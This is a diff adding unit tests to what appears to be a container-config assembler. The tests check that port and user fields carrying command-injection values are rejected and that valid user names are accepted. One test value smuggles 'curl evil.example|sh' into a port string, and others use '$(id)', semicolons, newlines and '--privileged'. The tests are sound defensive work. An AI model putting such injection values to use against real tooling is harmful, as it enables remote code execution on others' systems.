@@ -130,6 +130,31 @@ test('the project’s own settings win over the base’s', () => {
   });
 });
 
+test.each([
+  ['ports', ['8080:8080 x; curl evil.example|sh #\n/tcp']],
+  ['ports', ['0/tcp']],
+  ['ports', ['65536/tcp']],
+  ['ports', ['80/sctp']],
+  ['ports', ['$(PORT)/tcp']],
+  ['user', '$(id)'],
+  ['user', 'a;b'],
+  ['user', 'a\nb'],
+  ['user', '--privileged'],
+  ['user', 'a  b'],
+] as const)('%s of a project cannot be %j: later steps put them into commands', (name, value) => {
+  const container = { ...settings(), [name]: value };
+  expect(() => assemble(anApp({ container }))).toThrow(
+    expect.objectContaining({ code: 'PROJECT_UNSUPPORTED', message: expect.stringContaining(anApp().project) }),
+  );
+});
+
+test.each(['app', '1654', '1654:1654', 'www-data:root', 'NT AUTHORITY\\SYSTEM', 'ContainerUser', 'a.b@c'])(
+  '%s is a user',
+  (user) => {
+    expect(assemble(anApp({ container: settings({ user }) })).config.value.config?.User).toBe(user);
+  },
+);
+
 test('a base without APP_UID keeps its user', () => {
   const base = aBase({ Env: [], User: 'nobody' });
   expect(assemble(anApp(), base).config.value.config?.User).toBe('nobody');
